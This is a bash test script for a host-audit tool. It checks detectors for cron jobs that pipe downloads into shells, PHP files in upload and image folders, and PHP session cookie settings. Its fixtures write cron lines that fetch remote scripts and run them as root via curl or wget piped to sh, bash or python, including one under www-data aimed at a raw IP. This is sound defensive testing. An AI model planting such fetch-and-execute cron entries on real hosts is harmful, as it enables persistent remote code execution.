#!/bin/bash
# CLI tests: host checks whose patterns are easy to get wrong, each against
# a small root built here with the true cases beside near misses.
#   ops.cron_download_exec  a download piped into a shell or interpreter
#   web.upload_scripts      server-side scripts in upload/image folders
#   web.php_session_cookie  PHP's session settings per SAPI: php.ini, then
#                           conf.d overrides; a key written nowhere is off
. "$SRCDIR/tests/cli/lib.sh"

R=$TMPD/root
mkdir -p "$R/etc/cron.d" "$R/var/spool/cron/crontabs" \
	"$R/var/www/html/uploads/2026/11" "$R/var/www/html/images" \
	"$R/var/www/html/user_data" "$R/var/www/html/upload-guide" \
	"$R/etc/php/8.2/fpm/conf.d" "$R/etc/php/8.2/apache2" "$R/etc/php/8.2/cli"
cat >"$R/etc/cron.d/jobs" <<'CRON'
1 * * * * root curl -fsSL https://get.example/i.sh | bash
2 * * * * root wget -qO- http://x.example/a | /bin/sh -s
3 * * * * root sh -c "$(curl -s http://x.example/b)"
4 * * * * root curl http://x.example/c.py | python3
5 * * * * root curl -o /usr/local/sbin/update.sh https://get.example/u.sh
6 * * * * root /usr/local/sbin/update.sh | logger
7 * * * * root wget -q https://get.example/feed.xml -O /var/cache/feed.xml # | sh
CRON
printf '* * * * * curl -s http://203.0.113.5/p|sudo sh\n' \
	>"$R/var/spool/cron/crontabs/www-data"
for f in uploads/2026/11/x.php uploads/a.phtml images/logo.gif.php \
	images/logo.png user_data/page.php upload-guide/index.php \
	uploads/readme.txt index.php; do
	printf '<?php\n' >"$R/var/www/html/$f"
done
printf '[Session]\nsession.cookie_secure = 0\nsession.cookie_httponly = Off\n' \
	>"$R/etc/php/8.2/fpm/php.ini"
printf 'session.cookie_secure = 1\nsession.use_strict_mode = 1\n' \
	>"$R/etc/php/8.2/fpm/conf.d/99-shop.ini"
printf '[Session]\nsession.cookie_httponly = 1\n' >"$R/etc/php/8.2/apache2/php.ini"
printf '[Session]\n' >"$R/etc/php/8.2/cli/php.ini"

# status resource, one per line, sorted, for one check.
rows() {
	printf '%s' "$out" | python3 -c '
import json, sys
j = json.load(sys.stdin)
for r in sorted((r["status"], r["resource"]) for r in j["results"] if r["check"] == sys.argv[1]):
    print(*r)' "$1"
}

run audit --root "$R" --no-store --format json --fail-on none
is "$rc" 0 "audit of the built root runs"
is "$(rows ops.cron_download_exec)" "alarm /etc/cron.d/jobs:1
alarm /etc/cron.d/jobs:2
alarm /etc/cron.d/jobs:3
alarm /etc/cron.d/jobs:4
alarm /var/spool/cron/crontabs/www-data:1
ok /etc/cron.d/jobs:5
ok /etc/cron.d/jobs:6
ok /etc/cron.d/jobs:7" "cron: pipes into sh, sh -c \$(curl) and python alarm; downloading to a file, a pipe into logger and a commented pipe do not"
is "$(rows web.upload_scripts)" "alarm /var/www/html/images/logo.gif.php
alarm /var/www/html/uploads/2026/11/x.php
alarm /var/www/html/uploads/a.phtml" "uploads: scripts in upload and image folders (any depth) alarm; user_data, upload-guide, a .png and a .txt do not"
is "$(rows web.php_session_cookie)" "alarm /etc/php/8.2/apache2/session.cookie_secure
alarm /etc/php/8.2/apache2/session.use_strict_mode
alarm /etc/php/8.2/fpm/session.cookie_httponly
ok /etc/php/8.2/apache2/session.cookie_httponly
ok /etc/php/8.2/fpm/session.cookie_secure
ok /etc/php/8.2/fpm/session.use_strict_mode" "php: conf.d overrides php.ini, keys written nowhere alarm, the cli SAPI is left out"
json_eq "$out" '[r["reason"] for r in j["results"] if r["resource"] == "/etc/php/8.2/apache2/session.cookie_secure"]' \
	'["session.cookie_secure is not set in /etc/php/8.2/apache2/: PHP'"'"'s default is off"]' "php: the reason names the SAPI and PHP's default"
done_testing
